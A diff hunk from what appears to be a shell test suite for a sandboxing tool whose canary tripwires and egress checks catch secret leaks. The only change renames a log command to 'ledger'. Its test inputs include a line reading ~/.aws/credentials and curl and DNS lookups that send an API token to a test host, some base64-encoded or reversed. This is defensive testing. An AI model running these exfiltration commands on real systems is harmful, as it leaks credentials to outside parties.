@@ -36,7 +36,7 @@ END
         box $who --trip canaries --stdout 'as json' -- sh -c 'printf "[\"%s\"," "$BACKUP_API_TOKEN"; sleep 30; echo survived'
         is "$who: nor does a form that is judged whole wait for its end" "$status $(grep -c survived "$T/out")" "125 0"
         box $who --trip canaries --stdout 'as text' -- sh -c 'echo; cat ~/.aws/credentials; sleep 30; echo survived'
-        has "$who: the record says it" "$($who "$CORDON" log --json | jq -r 'select(.kind == "end") | .more.error // empty' | tail -n 1)" "tripwire: stdout contains the canary ~/.aws/credentials"
+        has "$who: the record says it" "$($who "$CORDON" ledger --json | jq -r 'select(.kind == "end") | .more.error // empty' | tail -n 1)" "tripwire: stdout contains the canary ~/.aws/credentials"
         # --- at egress ---
         for what in 'curl -sS -m 10 -H "X-A: $BACKUP_API_TOKEN" http://web.test/a' 'curl -sS -m 10 --data "x=$(echo $BACKUP_API_TOKEN | base64)" http://web.test/a' \
                 'curl -sS -m 10 "http://web.test/$(echo $BACKUP_API_TOKEN | rev)"' 'getent hosts $BACKUP_API_TOKEN.web.test'; do
